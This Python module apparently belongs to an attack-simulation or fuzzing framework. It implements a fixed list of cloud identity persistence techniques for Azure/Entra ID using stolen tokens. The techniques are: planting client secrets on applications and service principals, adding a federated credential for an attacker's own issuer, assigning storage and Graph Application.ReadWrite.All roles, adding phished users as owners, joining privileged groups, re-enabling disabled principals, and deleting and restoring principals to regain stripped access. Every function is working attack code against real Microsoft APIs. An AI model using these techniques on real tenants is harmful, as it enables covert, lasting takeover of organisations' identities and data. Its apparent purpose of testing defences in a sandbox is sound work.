"""What an attacker leaves behind, each with whatever token of his lets him. A closed list.

A plant is tried on one principal; it answers with what it adds to his loot, or None where nothing allowed it.
"""

import uuid
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass
from datetime import datetime

from fuzz.grounds import Ground
from fuzz.loot import Loot, Proof
from fuzz.tools import Tools
from fuzz.worlds import Json
from sandbox.attacks.attacker import AUDIENCE

# https://learn.microsoft.com/azure/role-based-access-control/built-in-roles
_ROLE = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"  # Storage Blob Data Contributor
_GRAPH_WRITE_ALL = "1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9"  # Application.ReadWrite.All


@dataclass(frozen=True)
class Target:
    """A principal as anybody in the tenant can look it up. What its kind has not is empty."""

    name: str
    client_id: str
    object_id: str
    application_id: str = ""
    resource_id: str = ""


@dataclass(frozen=True)
class Scene:
    """What a plant needs besides its target."""

    tools: Tools
    loot: Loot
    now: datetime
    groups: tuple[str, ...]  # ids of groups that carry a role
    scopes: tuple[str, ...]  # where a role is worth having

    @property
    def ground(self) -> Ground:
        """Addresses."""
        return self.tools.ground


Plant = Callable[[Scene, Target], Awaitable[list[Proof] | None]]


async def _first(
    scene: Scene, audience: str, calls: Iterable[tuple[str, str, Json | None]]
) -> Json | None:
    """The first answer that is no refusal, of any of these calls with any token; its body, or an empty one."""
    for method, url, body in calls:
        for token in scene.loot.different(scene.now, audience):
            answer = await scene.tools.send(method, url, token, json=body)
            if answer is not None and answer.is_success:
                found: Json = answer.json() if answer.content else {}
                return found
    return None


def _graph(scene: Scene, path: str) -> str:
    return f"{scene.ground.endpoints['graph']}/v1.0{path}"


async def _secret_on(scene: Scene, target: Target, path: str) -> list[Proof] | None:
    body = {"passwordCredential": {"displayName": "ci-2026"}}
    made = await _first(scene, "graph", [("POST", _graph(scene, f"{path}/addPassword"), body)])
    if made is None:
        return None
    how = f"secret planted on {target.name}{path.split('/')[1]}"
    count = sum(one.kind == "secret" for one in scene.loot.proofs.values())
    return [Proof(f"{how} #{count}", "secret", made["secretText"], (), target.client_id)]


async def secret(scene: Scene, target: Target) -> list[Proof] | None:
    """A secret on the application."""
    if not target.application_id:
        return None
    return await _secret_on(scene, target, f"/applications/{target.application_id}")


async def secret_on_principal(scene: Scene, target: Target) -> list[Proof] | None:
    """A secret on the service principal, where the portal's page of the application shows none."""
    return await _secret_on(scene, target, f"/servicePrincipals/{target.object_id}")


async def trust(scene: Scene, target: Target) -> list[Proof] | None:
    """A federated credential for an issuer of his own, on an application or a user-assigned identity."""
    issuer = str(
        (await scene.tools.control("POST", "foreign-issuer", {"url_path": "rogue"}))["issuer"]
    )
    count = sum(one.kind == "forgery" for one in scene.loot.proofs.values())
    subject = f"system:serviceaccount:shop:mine-{count}"
    name = f"aks-sea-{count}"
    properties = {"issuer": issuer, "subject": subject, "audiences": [AUDIENCE]}
    made = None
    if target.application_id:
        path = f"/applications/{target.application_id}/federatedIdentityCredentials"
        body = {"name": name, **properties}
        made = await _first(scene, "graph", [("POST", _graph(scene, path), body)])
    if target.resource_id:
        url = (
            f"{scene.ground.endpoints['arm']}{target.resource_id}/federatedIdentityCredentials/"
            f"{name}?api-version=2023-01-31"
        )
        made = await _first(scene, "arm", [("PUT", url, {"properties": properties})])
    if made is None:
        return None
    return [Proof(f"forged for {subject}", "forgery", "", (issuer, subject))]


async def role(scene: Scene, target: Target) -> list[Proof] | None:
    """A role for the principal, at the widest scope that anything he holds lets him."""
    calls: list[tuple[str, str, Json | None]] = []
    for scope in scene.scopes:
        assignment = f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}"
        properties = {
            "roleDefinitionId": f"/providers/Microsoft.Authorization/roleDefinitions/{_ROLE}",
            "principalId": target.object_id,
            "principalType": "ServicePrincipal",
        }
        url = f"{scene.ground.endpoints['arm']}{assignment}?api-version=2022-04-01"
        calls.append(("PUT", url, {"properties": properties}))
    return None if await _first(scene, "arm", calls) is None else []


async def owner(scene: Scene, target: Target) -> list[Proof] | None:
    """Somebody whom he has phished becomes an owner."""
    reference = [_graph(scene, f"/directoryObjects/{each}") for each in scene.loot.people]
    paths = [f"/servicePrincipals/{target.object_id}"]
    paths += [f"/applications/{target.application_id}"] if target.application_id else []
    calls: list[tuple[str, str, Json | None]] = [
        ("POST", _graph(scene, f"{path}/owners/$ref"), {"@odata.id": each})
        for path in paths
        for each in reference
    ]
    return None if await _first(scene, "graph", calls) is None else []


async def member(scene: Scene, target: Target) -> list[Proof] | None:
    """The principal becomes a member of a group that carries a role."""
    body = {"@odata.id": _graph(scene, f"/directoryObjects/{target.object_id}")}
    calls: list[tuple[str, str, Json | None]] = [
        ("POST", _graph(scene, f"/groups/{group}/members/$ref"), body) for group in scene.groups
    ]
    return None if await _first(scene, "graph", calls) is None else []


async def app_role(scene: Scene, target: Target) -> list[Proof] | None:
    """Application.ReadWrite.All for the principal."""
    found = await _first(
        scene,
        "graph",
        [
            (
                "GET",
                _graph(scene, "/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')"),
                None,
            )
        ],
    )
    if found is None:
        return None
    body = {
        "principalId": target.object_id,
        "resourceId": found["id"],
        "appRoleId": _GRAPH_WRITE_ALL,
    }
    path = f"/servicePrincipals/{target.object_id}/appRoleAssignments"
    return (
        None if await _first(scene, "graph", [("POST", _graph(scene, path), body)]) is None else []
    )


async def enabled(scene: Scene, target: Target) -> list[Proof] | None:
    """What was disabled is switched on again."""
    calls: list[tuple[str, str, Json | None]] = [
        ("PATCH", _graph(scene, f"/servicePrincipals/{target.object_id}"), {"accountEnabled": True})
    ]
    done = await _first(scene, "graph", calls)
    if target.application_id:
        path = f"/applications/{target.application_id}"
        await _first(scene, "graph", [("PATCH", _graph(scene, path), {"isDisabled": False})])
    return None if done is None else []


async def restored(scene: Scene, target: Target) -> list[Proof] | None:
    """The principal is deleted and restored: what somebody took away may come back with it."""
    path = f"/servicePrincipals/{target.object_id}"
    if await _first(scene, "graph", [("DELETE", _graph(scene, path), None)]) is None:
        return None
    back = _graph(scene, f"/directory/deletedItems/{target.object_id}/restore")
    await _first(scene, "graph", [("POST", back, None)])
    return []


PLANTS: dict[str, Plant] = {
    "secret": secret,
    "secret_on_principal": secret_on_principal,
    "trust": trust,
    "role": role,
    "owner": owner,
    "member": member,
    "app_role": app_role,
    "enabled": enabled,
    "restored": restored,
}
